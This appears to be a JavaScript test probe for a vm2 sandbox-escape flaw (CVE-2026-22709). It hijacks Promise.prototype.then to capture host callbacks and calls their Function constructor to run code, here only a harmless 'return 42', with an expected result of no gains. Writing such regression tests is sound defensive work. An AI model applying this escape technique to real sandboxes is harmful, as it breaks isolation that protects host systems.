// From: vm2 CVE-2026-22709: callbacks of the host's promises were handed values that nobody had cleaned.
// Ends: []
import { gains } from "../gains.js";

const { then } = Promise.prototype;
const seen = [];

export const attack = async () => {
  try {
    Promise.prototype.then = function (done, failed) {
      seen.push(this, done, failed);
      return then.call(this, done, failed);
    };
    await import("./no-such-file.js").catch(() => {});
    await new Promise((done) => setTimeout(done, 1));
    await import("./constructor_walk.js");
  } catch {
    // Frozen.
  } finally {
    try { Promise.prototype.then = then; } catch { /* frozen */ }
  }
  return gains(seen.filter((it) => typeof it === "function").map((f) => () => f.constructor("return 42")()));
};
